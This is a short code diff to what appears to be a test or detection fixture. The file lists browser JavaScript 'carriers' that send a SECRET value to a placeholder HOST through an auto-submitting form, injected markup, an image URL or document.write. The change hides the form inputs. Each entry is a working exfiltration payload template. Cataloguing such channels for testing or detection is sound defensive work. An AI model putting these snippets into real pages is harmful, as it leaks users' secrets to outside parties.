@@ -36,11 +36,11 @@ const CARRIERS: readonly Carrier[] = [
 	],
 	[
 		"a form of its own",
-		`const form = document.createElement("form"); form.action = "HOST/"; form.method = "post"; const field = document.createElement("input"); field.value = SECRET; form.append(field); document.body.append(form); form.submit();`,
+		`const form = document.createElement("form"); form.action = "HOST/"; form.method = "post"; const field = document.createElement("input"); field.type = "hidden"; field.value = SECRET; form.append(field); document.body.append(form); form.submit();`,
 	],
 	[
 		"a form in markup",
-		`document.body.insertAdjacentHTML("beforeend", '<form id="zz" action="HOST/" method="post"><input name="c"></form>'); const form = document.getElementById("zz"); form.elements.c.value = SECRET; form.submit();`,
+		`document.body.insertAdjacentHTML("beforeend", '<form id="zz" action="HOST/" method="post"><input type="hidden" name="c"></form>'); const form = document.getElementById("zz"); form.elements.c.value = SECRET; form.submit();`,
 	],
 	["an image in markup", `document.body.insertAdjacentHTML("beforeend", '<img src="HOST/' + SECRET + '">');`],
 	["document.write", `document.write('<img src="HOST/' + SECRET + '">');`],
